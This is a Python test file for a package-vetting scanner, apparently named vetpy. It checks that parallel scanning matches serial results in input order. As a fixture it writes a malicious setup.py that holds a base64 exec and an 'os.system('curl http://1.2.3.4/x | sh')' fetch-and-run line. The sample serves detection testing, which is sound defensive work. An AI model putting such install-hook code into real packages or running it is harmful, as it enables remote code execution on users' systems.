"""Many targets on several processes: the same results as one by one, in input order."""

from __future__ import annotations

from pathlib import Path

from conftest import ArchiveBuilder
from vetpy.acquire.targets import Target
from vetpy.model.rules import RuleScorer
from vetpy.parallel import scan_resolved
from vetpy.result import ScanResult
from vetpy.scan import Scanner, error_result

EVIL = "import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://1.2.3.4/x | sh')\n"


def _targets(tmp_path: Path, make_archive: ArchiveBuilder) -> list[Target | ScanResult]:
    items: list[Target | ScanResult] = []
    for i in range(5):
        code = EVIL if i % 2 else "X = 1\n"
        path = tmp_path / f"p{i}-1.0.tar.gz"
        path.write_bytes(make_archive({f"p{i}-1.0/setup.py": code.encode()}))
        items.append(Target(f"p{i}", path=path))
    items.insert(2, error_result("unresolvable", "error: not found"))
    items.append(Target("skipped", skipped="skipped: editable"))
    return items


def _comparable(results: list[ScanResult]) -> list[tuple[object, ...]]:
    return [(r.target, r.verdict, r.score, r.reasons, r.error) for r in results]


def test_parallel_equals_serial_in_input_order(tmp_path: Path, make_archive: ArchiveBuilder) -> None:
    items = _targets(tmp_path, make_archive)
    scanner = Scanner(scorer=RuleScorer())
    seen: list[str] = []
    serial = scan_resolved(scanner, items, jobs=1)
    parallel = scan_resolved(scanner, items, jobs=3, on_result=lambda r: seen.append(r.target))
    assert [r.target for r in parallel] == ["p0", "p1", "unresolvable", "p2", "p3", "p4", "skipped"]
    assert _comparable(parallel) == _comparable(serial)
    assert sorted(seen) == sorted(r.target for r in parallel)
    assert {r.verdict.value for r in parallel} == {"benign", "malicious", "error"}
